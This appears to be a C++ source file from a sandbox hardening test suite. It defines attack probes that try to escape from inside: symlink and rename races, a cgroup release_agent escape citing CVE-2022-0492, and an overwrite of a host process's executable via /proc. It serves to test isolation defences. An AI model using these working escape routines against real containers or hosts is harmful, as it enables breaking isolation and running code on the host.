#include "sandbox/hostile/attack_verbs.h"

#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstring>
#include <filesystem>

namespace catamaran {
namespace {

using Arguments = std::vector<std::string>;

std::string ErrorOrOk(long result) { return result < 0 ? strerrorname_np(errno) : "ok"; }

long WriteTo(const std::string& path, const std::string& text) {
  const int fd = open(path.c_str(), O_WRONLY);
  if (fd < 0) return fd;
  const long written = write(fd, text.data(), text.size());
  close(fd);
  return written;
}

// The end of an attack that nobody ends: its test was killed.
class Patience {
 public:
  bool over() const { return std::chrono::steady_clock::now() > end_; }

 private:
  const std::chrono::steady_clock::time_point end_ =
      std::chrono::steady_clock::now() + std::chrono::seconds(90);
};

void EndWithTheEngine() { prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0); }

// exchange:A:B[:PAUSE]. Without a pause (microseconds, up to that many) a look at either name
// mostly finds none: right for a race that takes one look, lost by one that takes several.
void Exchange(const Arguments& arguments) {
  EndWithTheEngine();
  const int pause = arguments.size() > 3 ? atoi(arguments[3].c_str()) : 0;
  for (const Patience patience; !patience.over();) {
    renameat2(AT_FDCWD, arguments[1].c_str(), AT_FDCWD, arguments[2].c_str(), RENAME_EXCHANGE);
    if (pause > 0) usleep(rand() % pause);
  }
}

void Plant(const Arguments& arguments) {
  EndWithTheEngine();
  const std::string ready = arguments[1] + ".ready";
  for (const Patience patience; !patience.over();) {
    unlink(ready.c_str());
    if (symlink(arguments[2].c_str(), ready.c_str()) != 0) continue;
    unlink(arguments[1].c_str());
    usleep(rand() % 200);
    rename(ready.c_str(), arguments[1].c_str());
  }
}

void LinkForFolder(const Arguments& arguments) {
  rmdir(arguments[1].c_str());
  ReportFromProbe("link-for-folder",
                  ErrorOrOk(symlink(arguments[2].c_str(), arguments[1].c_str())));
}

constexpr const char* kHierarchy = "/hierarchy";
constexpr const char* kOptions = "none,name=catamaran-hostile";

// The file that says that the program ran, or false.
bool Appears(const std::string& path) {
  for (int i = 0; i < 500; ++i) {
    if (access(path.c_str(), F_OK) == 0) return true;
    usleep(10'000);
  }
  return false;
}

// Only a new, named hierarchy: those of the machine stay as they are.
void ReleaseAgent(const Arguments& arguments) {
  mkdir(kHierarchy, 0755);
  long mounted = mount("none", kHierarchy, "cgroup", 0, kOptions);
  ReportFromProbe("mount-cgroup1", ErrorOrOk(mounted));
  if (mounted < 0) {
    // As a root of one's own, CVE-2022-0492.
    const long own = unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP);
    ReportFromProbe("unshare", ErrorOrOk(own));
    mounted = mount("none", kHierarchy, "cgroup", 0, kOptions);
  }
  if (mounted < 0) return ReportFromProbe("release-agent", ErrorOrOk(mounted));
  const std::string root = kHierarchy, group = root + "/released";
  const long agent = WriteTo(root + "/release_agent", arguments[1]);
  ReportFromProbe("release-agent", ErrorOrOk(agent));
  if (agent < 0) return;
  mkdir(group.c_str(), 0755);
  WriteTo(group + "/notify_on_release", "1");
  const pid_t child = fork();
  if (child == 0) _exit(WriteTo(group + "/cgroup.procs", "0") < 0 ? 1 : 0);
  waitpid(child, nullptr, 0);
  ReportFromProbe("released", Appears(arguments[2]) ? "ok" : "never");
  WriteTo(group + "/notify_on_release", "0");
  WriteTo(root + "/release_agent", "");
  rmdir(group.c_str());
  umount2(kHierarchy, 0);
}

void LeaveFile(const std::string& path, const std::string& text) {
  const std::string ready = path + ".ready";
  const int fd = open(ready.c_str(), O_WRONLY | O_CREAT, 0644);
  [[maybe_unused]] const auto written = write(fd, text.data(), text.size());
  close(fd);
  rename(ready.c_str(), path.c_str());
}

// A descriptor of the program that some other process runs, if that is not ours.
int CatchProgram(const struct stat& own) {
  std::error_code none;
  for (const auto& entry : std::filesystem::directory_iterator("/proc", none)) {
    if (atoi(entry.path().filename().c_str()) < 2) continue;
    const int fd = open((entry.path() / "exe").c_str(), O_RDONLY);
    struct stat status;
    if (fd < 0) continue;
    if (fstat(fd, &status) == 0 && status.st_ino != own.st_ino) return fd;
    close(fd);
  }
  return -1;
}

void OverwriteProgram(const Arguments& arguments) {
  struct stat own;
  stat("/proc/self/exe", &own);
  const Patience patience;
  int fd = -1;
  while (fd < 0 && !patience.over()) fd = CatchProgram(own);
  LeaveFile(arguments[1] + "/caught", "");
  const std::string again = "/proc/self/fd/" + std::to_string(fd);
  int writable;
  // As long as somebody runs it.
  while ((writable = open(again.c_str(), O_WRONLY)) < 0 && errno == ETXTBSY && !patience.over())
    usleep(1000);
  const long result = writable < 0 ? writable : write(writable, "overwritten", 11);
  LeaveFile(arguments[1] + "/outcome", ErrorOrOk(result));
}

void Released(const Arguments&) {
  const auto sign = std::filesystem::read_symlink("/proc/self/exe").parent_path() / "released";
  close(open(sign.c_str(), O_WRONLY | O_CREAT, 0644));
}

}  // namespace

ProbeVerbs AttackVerbs() {
  return {{"exchange", Exchange},
          {"plant", Plant},
          {"link-for-folder", LinkForFolder},
          {"overwrite-exe", OverwriteProgram},
          {"release-agent", ReleaseAgent},
          {"/released", Released}};
}

}  // namespace catamaran
